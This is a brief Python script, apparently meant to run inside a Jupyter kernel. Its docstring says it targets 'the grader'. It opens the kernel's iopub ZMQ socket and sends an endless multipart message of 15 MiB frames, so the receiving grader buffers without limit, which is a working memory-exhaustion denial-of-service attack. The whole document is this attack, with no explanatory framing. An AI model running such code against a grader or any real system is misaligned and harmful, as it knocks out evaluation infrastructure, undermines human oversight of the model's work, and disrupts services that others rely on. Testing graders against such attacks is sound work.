"""Sends the grader one message of parts without an end, each below the limit of one: it is kept whole until its end."""

import time

import zmq

kernel = get_ipython().kernel
socket = getattr(kernel.iopub_socket, "io_thread", kernel.iopub_socket).socket
part = b"x" * (15 * 2**20)


def flood():
    socket.send(b"stream.x", zmq.SNDMORE)
    while True:
        socket.send(part, zmq.SNDMORE)


kernel.iopub_thread.schedule(flood)
time.sleep(60)
